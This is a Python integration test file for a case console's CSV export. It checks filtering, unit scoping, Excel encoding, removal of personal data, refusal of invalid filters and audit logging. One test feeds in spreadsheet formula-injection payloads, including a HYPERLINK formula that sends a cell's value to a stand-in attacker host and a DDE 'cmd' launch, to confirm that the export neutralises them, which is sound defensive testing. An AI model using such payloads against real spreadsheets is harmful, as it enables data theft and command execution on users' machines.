"""The queue's CSV export (GET /export.csv) over real HTTP: the same cases as the queue under the same
filters and scope (every page of them), a file Excel opens (BOM, CRLF, the header in the console's
language), no personal data, formula-like text defused, bad filters refused, and each export audited.

Tip-offs about prices by a merchant in 永中街道 have 价竞分局 (jiajing) as lead with 网监分局 and 综合执法队
as co-units; complaints go to 永中所 (suo_yongzhong). The clock is fixed at Monday 2026-11-16 10:00 in
Shanghai. SQLite always, PostgreSQL with TEST_DATABASE_URL.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import select, true

from db.models import CaseEvent
from intake.cases import ComplainantInfo
from intake.closing import ClosingFacts
from intake.queries import CaseFilter
from intake.status import Status
from tests.integration.test_console import (  # noqa: F401  (console is a fixture)
    case_at,
    case_numbers,
    complaint,
    console,
    system_actor,
    tipoff,
)
from web.keys import QUERIES

HEADER = ["编号", "类型", "类别", "状态", "渠道", "接收时间", "平台", "直播间", "主播", "商品", "金额（元）", "承办单位",
          "下一期限", "超期", "答复时间", "结案时间", "办理结果", "立案", "罚没款（元）", "罚款（元）", "没收违法所得（元）",
          "移送司法机关", "督促平台删除违规信息/下架商品（条/个）", "处置发布违规内容账号（个）", "关闭违法违规问题网站（个）",
          "摘要"]


async def export(person, query: str = "") -> list[dict[str, str]]:
    """The export's rows as {header: cell}, after checking what makes it a file Excel opens."""
    response = await person.client.get("/export.csv" + query, allow_redirects=False)
    assert response.status == 200, await response.text()
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="qinglang-cases-2026-11-16\.csv"',
                        response.headers["Content-Disposition"])
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    body = await response.read()
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    text = body.decode("utf-8")[1:]
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")  # CRLF only (no line breaks in cells here)
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


async def queue_numbers(person, query: str = "") -> list[str]:
    """Every case number of the queue under `query`, over all its pages."""
    numbers, path = [], "/?limit=3" + ("&" + query.lstrip("?") if query else "")
    while path:
        status, html = await person.get(path)
        assert status == 200
        numbers += case_numbers(html)
        match = re.search(r'<a href="([^"]+)" rel="next">', html)
        path = match.group(1).replace("&amp;", "&") if match else None
    return numbers


async def exports_of(container) -> list[CaseEvent]:
    async with container.uow() as uow:
        return list((await uow.session.scalars(
            select(CaseEvent).where(CaseEvent.action == "export_cases").order_by(CaseEvent.id))).all())


async def some_cases(container) -> None:
    """Tip-offs (价竞分局 leads), complaints (永中所 leads), one closed tip-off; received on different days."""
    for i, day in enumerate(("2026-11-02", "2026-11-09", "2026-11-12", "2026-11-16")):
        at = datetime.fromisoformat(day + "T02:00:00").replace(tzinfo=UTC)
        await container.cases.create(tipoff(received_at=at, live_room=f"直播间{i}"))
        await container.cases.create(complaint(received_at=at, complainant=ComplainantInfo(
            channel_user_id=str(i), name="王五", phone="13700000000")))
    await case_at(container, Status.CLOSED)


@pytest.mark.parametrize("query", ["", "?kind=tipoff", "?kind=complaint&received_from=2026-11-09", "?q=直播间2",
                                   "?unit=suo_yongzhong", "?status=closed", "?status=received&status=closed",
                                   "?due=overdue", "?platform=快手", "?received_to=2026-11-01"])
async def test_rows_are_the_filtered_queue(console, query):
    container = console.container
    await some_cases(container)
    triage = await console.person("triage", "xiaobao", "triage")
    rows = await export(triage, query)
    queue = await queue_numbers(triage, query)
    assert sorted(row["编号"] for row in rows) == sorted(queue)
    assert [row["编号"] for row in rows] == sorted(queue)  # in the order the cases came in
    (event,) = await exports_of(container)
    assert event.data["rows"] == len(rows) and event.data["complete"] is True


async def test_a_handler_exports_only_its_units_cases(console):
    container = console.container
    await some_cases(container)
    for name, unit, kinds in (("lead", "jiajing", {"举报"}), ("co", "wangjian", {"举报"}),
                              ("suo", "suo_yongzhong", {"投诉"}), ("quality", "zhiliang", set())):
        person = await console.person(name, unit, "handler")
        for query in ("", "?status=closed", "?unit=suo_yongzhong"):
            rows = await export(person, query)
            assert sorted(row["编号"] for row in rows) == sorted(await queue_numbers(person, query)), (name, query)
            assert {row["类型"] for row in rows} <= kinds, (name, query)
        assert len(await export(person)) == (4 if kinds else 0), name


async def test_cells_and_no_personal_data(console):
    container = console.container
    triage = await console.person("triage", "xiaobao", "triage")
    view = await container.cases.create(tipoff(product="羽绒服", amount_fen=129950, streamer="主播小甲"))
    actor = await system_actor(container)
    await container.cases.accept(view.id, actor)
    await container.cases.resolve(view.id, actor, "case_filed", "已立案查处。")
    await container.cases.close(view.id, actor, facts=ClosingFacts(fine_fen=500000, confiscation_fen=12345,
                                                                    judicial_referral=True, takedowns=3))
    await container.cases.create(complaint())
    response = await triage.client.get("/export.csv?status=closed")
    text = (await response.read()).decode("utf-8")
    for secret in ("李四", "13912345678", "张三", "13800138000", "5678"):
        assert secret not in text
    (row,) = await export(triage, "?status=closed")
    assert row == {
        "编号": view.number, "类型": "举报", "类别": "价格违法", "状态": "已关闭", "渠道": "网页",
        "接收时间": "2026-11-16 10:00", "平台": "抖音", "直播间": "好物直播间", "主播": "主播小甲", "商品": "羽绒服",
        "金额（元）": "1299.50", "承办单位": "价竞分局", "下一期限": "", "超期": "否",
        "答复时间": "2026-11-16 10:00", "结案时间": "2026-11-16 10:00", "办理结果": "已立案查处", "立案": "是",
        "罚没款（元）": "5123.45", "罚款（元）": "5000.00", "没收违法所得（元）": "123.45", "移送司法机关": "是",
        "督促平台删除违规信息/下架商品（条/个）": "3", "处置发布违规内容账号（个）": "", "关闭违法违规问题网站（个）": "",
        "摘要": "主播说原价999现在99，其实平时一直卖99，虚假折扣",
    }
    # an open case has no closing facts, and its deadline and overdue flag are shown
    (row,) = await export(triage, "?kind=complaint")
    assert row["立案"] == row["罚没款（元）"] == row["移送司法机关"] == "" and row["超期"] == "否"
    assert row["下一期限"] and row["结案时间"] == ""


async def test_formula_like_text_is_defused(console):
    container = console.container
    triage = await console.person("triage", "xiaobao", "triage")
    await container.cases.create(tipoff(
        description="=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", live_room="+cmd|' /C calc'!A0",
        streamer="-2+3", product="@SUM(A1:A9)", platform="\t=1+1"))
    await container.cases.create(tipoff(description="正常描述=1", live_room="\r=1+1 回车开头"))
    first, second = await export(triage)
    assert first["摘要"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
    assert first["直播间"] == "'+cmd|' /C calc'!A0"
    assert first["主播"] == "'-2+3" and first["商品"] == "'@SUM(A1:A9)" and first["平台"] == "'\t=1+1"
    assert second["直播间"] == "'\r=1+1 回车开头" and second["摘要"] == "正常描述=1"


@pytest.mark.parametrize(("query", "problem"), [
    ("?unit=nowhere", "筛选条件无效：unit"), ("?status=lost", "筛选条件无效：status"),
    ("?kind=complaint&kind=rumour", "筛选条件无效：kind"), ("?category=gossip", "筛选条件无效：category"),
    ("?due=someday", "筛选条件无效：due"), ("?received_from=yesterday", "YYYY-MM-DD"),
    ("?received_to=2026-13-01", "YYYY-MM-DD"),
])
async def test_bad_filters_are_refused(console, query, problem):
    container = console.container
    await container.cases.create(tipoff())
    triage = await console.person("triage", "xiaobao", "triage")
    response = await triage.client.get("/export.csv" + query, allow_redirects=False)
    assert response.status == 400
    assert response.content_type == "text/html"
    html = await response.text()
    assert "未导出" in html and problem in html and "已忽略" not in html
    assert await exports_of(container) == []


async def test_not_logged_in_goes_to_the_login(console):
    client = await console.browser()
    response = await client.get("/export.csv?kind=tipoff", allow_redirects=False)
    assert response.status == 303
    location = urlsplit(response.headers["Location"])
    assert location.path == "/login" and parse_qs(location.query) == {"next": ["/export.csv?kind=tipoff"]}
    assert (await client.head("/export.csv", allow_redirects=False)).status == 405
    assert await exports_of(console.container) == []


async def test_every_export_is_audited(console):
    container = console.container
    await some_cases(container)
    handler = await console.person("lead", "jiajing", "handler")
    rows = await export(handler, "?kind=tipoff&received_from=2026-11-09&q=直播间&status=received&status=closed")
    (event,) = await exports_of(container)
    assert event.case_id is None and event.actor_type == "staff" and event.actor_id == handler.id
    assert event.data == {"filter": {"status": ["received", "closed"], "kind": ["tipoff"],
                                     "received_from": "2026-11-09", "text": "直播间"},
                          "rows": len(rows), "complete": True}
    assert len(rows) == 4  # 直播间1-3, and the closed one in 好物直播间


async def test_the_queue_links_to_the_export_with_its_filters(console):
    triage = await console.person("triage", "xiaobao", "triage")
    status, html = await triage.get("/?kind=tipoff&q=%E7%9B%B4%E6%92%AD&cursor=abc&limit=3&lang=zh")
    match = re.search(r'<a href="([^"]+)" class="export"[^>]*>导出CSV</a>', html)
    assert match, html
    assert match.group(1).replace("&amp;", "&") == "/export.csv?kind=tipoff&q=%E7%9B%B4%E6%92%AD"


async def test_export_reads_in_batches_and_returns_each_case_once(console):
    container = console.container
    await some_cases(container)
    queries = console.server.app[QUERIES]
    batches = [batch async for batch in queries.export_batches(true(), CaseFilter(), batch=3)]
    assert [len(b) for b in batches] == [3, 3, 2]
    numbers = [row.number for batch in batches for row in batch]
    page = await queries.page(true(), CaseFilter(), limit=200)
    assert numbers == sorted(row.number for row in page.rows)
    # a last batch that is exactly full ends with an empty read
    batches = [batch async for batch in queries.export_batches(true(), CaseFilter(), batch=4)]
    assert [len(b) for b in batches] == [4, 4]
